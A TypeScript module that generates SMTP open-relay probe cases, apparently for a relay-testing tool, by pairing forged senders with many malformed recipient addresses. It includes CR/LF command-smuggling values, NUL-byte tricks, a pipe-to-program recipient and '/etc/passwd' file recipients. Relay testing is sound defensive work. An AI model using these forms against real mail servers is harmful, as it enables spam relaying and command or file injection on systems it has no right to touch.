/**
 * Ways to ask a server to pass mail on to strangers: those that have worked
 * somewhere, and their mixtures.
 */

/** One attempt; `victim@elsewhere.test` is who would get the mail. */
export interface RelayForm {
  /** As it stands in MAIL FROM, brackets included. */
  readonly from: string;
  /** As it stands in RCPT TO, with what follows it. */
  readonly to: string;
}

/** Who the mail says it is from; a server may trust some of them too much. */
const SENDERS = [
  "<>",
  "<spammer@other.test>",
  "<me@home.test>",
  "<me@[127.0.0.1]>",
  "<postmaster@mx.home.test>",
  "<@home.test:me@home.test>",
];

/** Recipients for whom we are not, whatever they look like. */
const RECIPIENTS = [
  "<victim@elsewhere.test>",
  "<victim@ELSEWHERE.TEST>",
  "<victim@elsewhere.test.>",
  "<victim%elsewhere.test@home.test>",
  "<victim%elsewhere.test@mx.home.test>",
  "<victim%elsewhere.test@[127.0.0.1]>",
  "<victim%elsewhere.test%home.test@home.test>",
  "<victim%elsewhere.test>",
  "<victim@elsewhere.test@home.test>",
  "<victim@elsewhere.test%home.test>",
  "<victim@home.test@elsewhere.test>",
  '<"victim@elsewhere.test"@home.test>',
  '<"victim@elsewhere.test">',
  '<"victim%elsewhere.test"@home.test>',
  '<"victim"@elsewhere.test>',
  '<"\\v\\i\\c\\t\\i\\m"@elsewhere.test>',
  '<"me@home.test"@elsewhere.test>',
  '<"me@home.test "@elsewhere.test>',
  "<@home.test:victim@elsewhere.test>",
  "<@mx.home.test:victim@elsewhere.test>",
  "<@home.test,@mx.home.test:victim@elsewhere.test>",
  "<@elsewhere.test:victim@elsewhere.test>",
  "<@[127.0.0.1]:victim@elsewhere.test>",
  "<@home.test:@elsewhere.test:victim@elsewhere.test>",
  "<@home.test:victim%elsewhere.test@home.test>",
  "<elsewhere.test!victim@home.test>",
  "<elsewhere.test!victim@mx.home.test>",
  "<elsewhere.test!victim>",
  "<home.test!elsewhere.test!victim>",
  "<home.test!victim@elsewhere.test>",
  "<victim@[192.0.2.7]>",
  "<victim@[127.0.0.1]>",
  "<victim@[IPv6:::1]>",
  "<victim@[IPv6:::ffff:192.0.2.7]>",
  "<victim@192.0.2.7>",
  "<victim@127.0.0.1>",
  "<victim@2130706433>",
  "<victim@localhost>",
  "<victim@localhost.localdomain>",
  "<victim@home.test.elsewhere.test>",
  "<victim@elsewhere.test\\@home.test>",
  "<victim\\@elsewhere.test@home.test>",
  "<victim@(home.test)elsewhere.test>",
  "<victim(@home.test)@elsewhere.test>",
  "<victim@elsewhere.test(@home.test)>",
  "<victim@ elsewhere.test>",
  "<victim @elsewhere.test>",
  "<victim@elsewhere.test >",
  "< victim@elsewhere.test>",
  "victim@elsewhere.test",
  "<<victim@elsewhere.test>>",
  "<victim@elsewhere.test",
  "<me@home.test><victim@elsewhere.test>",
  "<me@home.test>,<victim@elsewhere.test>",
  "<me@home.test,victim@elsewhere.test>",
  "<me@home.test;victim@elsewhere.test>",
  "<me@home.test\nRCPT TO:<victim@elsewhere.test>",
  "<me@home.test\rRCPT TO:<victim@elsewhere.test>",
  "<victim@elsewhere.test\0@home.test>",
  "<me@home.test\0@elsewhere.test>",
  "<victim@xn--elsewhere-.test>",
  "<victim@elsewhere\u3002test>",
  "<victim@\uff45lsewhere.test>",
  "<victim=elsewhere.test@home.test>",
  "<victim#elsewhere.test@home.test>",
  "<victim@home.test:victim@elsewhere.test>",
  "<home.test:victim@elsewhere.test>",
  "<postmaster@elsewhere.test>",
  "<abuse@elsewhere.test>",
  "<victim@elsewhere.test> ORCPT=rfc822;me@home.test",
  "<victim@elsewhere.test> NOTIFY=NEVER",
  "<|/bin/true>",
  "</etc/passwd>",
  "<:include:/etc/passwd@home.test>",
];

/** Every form: all recipients from each of the senders. */
export const RELAY_FORMS: readonly RelayForm[] = SENDERS.flatMap((from) =>
  RECIPIENTS.map((to) => ({ from, to }))
);

/** Different recipients that are tried. */
export const RELAY_RECIPIENTS = RECIPIENTS.length;
